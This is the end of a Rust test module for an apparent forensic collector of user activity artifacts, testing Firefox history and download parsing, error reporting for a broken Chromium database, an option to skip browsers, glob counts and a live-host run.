        assert_eq!(of("browser_page", "firefox").len(), 1, "what was never visited is no page");
        let download = of("browser_download", "firefox")[0];
        assert_eq!(
            (&download["target"], &download["url"]),
            (&"/home/alice/d b.deb".into(), &"https://f.example/d.deb".into())
        );
        let is_told = items(&messages).iter().any(|item| {
            item.path.ends_with(b"chromium/Default/History") && item.status == Status::Error && item.reason.is_some()
        });
        assert!(is_told, "the database that is none");
    }

    #[test]
    fn browsers_can_be_left_out() {
        let root = tree();
        let host = Arc::new(Host::at(root.path(), FixedClock(Instant(0))));
        let messages = collect(&UserActivity { without_browsers: true, ..UserActivity::default() }, host);
        assert!(!items(&messages).iter().any(|item| item.path.ends_with(b"History")));
        assert!(matches!(messages.last(), Some(Message::Done(Ok(())))));
    }

    #[test]
    fn every_glob_reads() {
        let globs = UserActivity::default().asked().len();
        let expected = STARTUP.len()
            + HISTORIES.len()
            + 2
            + CHROMIUM.len()
            + 1
            + APPLICATIONS.len()
            + APPLICATION_LOGS.len()
            + FILES.len();
        assert_eq!(globs, expected);
    }

    #[test]
    fn the_live_host_is_read() {
        let messages = collect(&UserActivity::default(), Arc::new(Host::live()));
        assert!(matches!(messages.last(), Some(Message::Done(Ok(())))));
        assert!(!items(&messages).is_empty());
    }
}
